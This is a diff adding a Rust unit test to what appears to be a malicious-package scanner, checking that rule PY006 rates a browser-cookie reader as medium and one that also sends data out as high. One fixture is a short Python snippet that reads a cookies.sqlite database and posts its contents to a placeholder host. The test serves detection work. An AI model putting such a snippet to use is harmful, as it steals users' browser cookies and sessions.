@@ -264,3 +264,25 @@ fn persistence_takes_the_context_of_the_write() {
     assert_eq!(sev(runtime), Some(Severity::Medium));
     assert_eq!(sev(import), Some(Severity::High));
 }
+
+/// A browser store named at runtime by a file that sends nothing (a cookie importer) is
+/// medium; the same name in a file that also posts data is the stealer shape (high).
+#[test]
+fn runtime_stealer_targets_need_a_network_call_in_the_file() {
+    let importer: &[u8] = b"import os, sqlite3\n\ndef load(profile):\n    return sqlite3.connect(os.path.join(profile, 'cookies.sqlite'))\n";
+    let stealer: &[u8] = b"import os, sqlite3, requests\n\ndef load(profile):\n    db = sqlite3.connect(os.path.join(profile, 'cookies.sqlite'))\n    requests.post('https://example.invalid/c', data=str(db))\n";
+    let sev = |src: &[u8]| {
+        let a = artifact(
+            "pkg-1.0-py3-none-any.whl",
+            ArtifactFormat::Wheel,
+            &[("pkg/cookies.py", src)],
+        );
+        codes(&a)
+            .into_iter()
+            .filter(|(c, _, _)| c == "PY006")
+            .map(|(_, s, _)| s)
+            .max()
+    };
+    assert_eq!(sev(importer), Some(Severity::Medium));
+    assert_eq!(sev(stealer), Some(Severity::High));
+}
